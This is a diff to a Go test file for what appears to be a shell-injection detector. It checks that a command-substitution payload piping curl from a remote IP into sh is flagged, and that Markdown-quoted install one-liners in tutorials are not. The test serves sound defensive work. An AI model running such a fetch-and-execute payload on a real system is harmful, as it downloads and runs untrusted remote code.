@@ -67,6 +67,17 @@ func TestHeldOutAttacksFoundHigh(t *testing.T) {
 	if f := New(All, Arg).Inspect("my name is $(curl -s http://203.0.113.9/a | sh) hi"); f.Class != Shell || f.Confidence < Medium {
 		t.Errorf("substitution in text: %s, want rce/medium or more", f)
 	}
+	// In text, backticks are a Markdown code span: an install
+	// instruction quoted in a comment or README is not run (Medium here
+	// blocked every tutorial quoting one, with the CRS's 932230/932235).
+	for _, v := range []string{
+		"To install, run `curl -sSf https://sh.rustup.rs | sh` and follow the prompts. Then restart your shell.",
+		"Homebrew's installer is one line: `/bin/bash -c \"$(curl -fsSL https://brew.example/install.sh)\"`, or read it first with `curl -fsSLO https://brew.example/install.sh | less`.",
+	} {
+		if f := New(All, Arg).Inspect(v); f.Confidence >= Medium {
+			t.Errorf("%q: %s, want less than medium", v, f)
+		}
+	}
 }
 
 // Their benign look-alikes are not High.
